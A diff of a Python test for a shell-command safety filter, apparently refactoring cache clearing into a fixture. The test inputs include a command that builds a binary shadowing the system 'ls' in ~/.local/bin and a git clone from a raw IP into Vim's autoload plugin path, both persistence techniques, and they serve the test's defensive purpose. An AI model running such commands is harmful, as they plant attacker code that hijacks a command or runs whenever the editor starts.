@@ -14,7 +14,6 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from toolpipe.layers._shield_readings import clear_caches
 from toolpipe.layers.shield import UnixShield
 
 SHIELD = UnixShield()
@@ -162,11 +161,9 @@ def test_a_folder_a_program_empties_first_is_a_deletion():
 
 
 @pytest.mark.parametrize("broken", ["rows", "persistence", "generic"])
-def test_the_laws_catch_a_reading_taken_away(monkeypatch, broken):
+def test_the_laws_catch_a_reading_taken_away(fresh_readings, monkeypatch, broken):
     from toolpipe.shell import _outputs, _places
 
-    clear_caches()
-    _places._classify.cache_clear()
     if broken == "rows":
         monkeypatch.setattr(_outputs, "OUTPUTS", {})
         command = "go build -o ~/.local/bin/ls ./cmd"
@@ -179,8 +176,4 @@ def test_the_laws_catch_a_reading_taken_away(monkeypatch, broken):
         old = pattern[:start] + pattern[pattern.index(")$", start):]
         monkeypatch.setattr(_places, "_PERSISTENCE", __import__("re").compile(old))
         command = "git clone https://203.0.113.9/x ~/.vim/pack/x/start/y"
-    try:
-        assert SHIELD.__class__().evaluate("Bash", {"command": command}, ()).action in PASSED
-    finally:
-        clear_caches()
-        _places._classify.cache_clear()
+    assert SHIELD.__class__().evaluate("Bash", {"command": command}, ()).action in PASSED
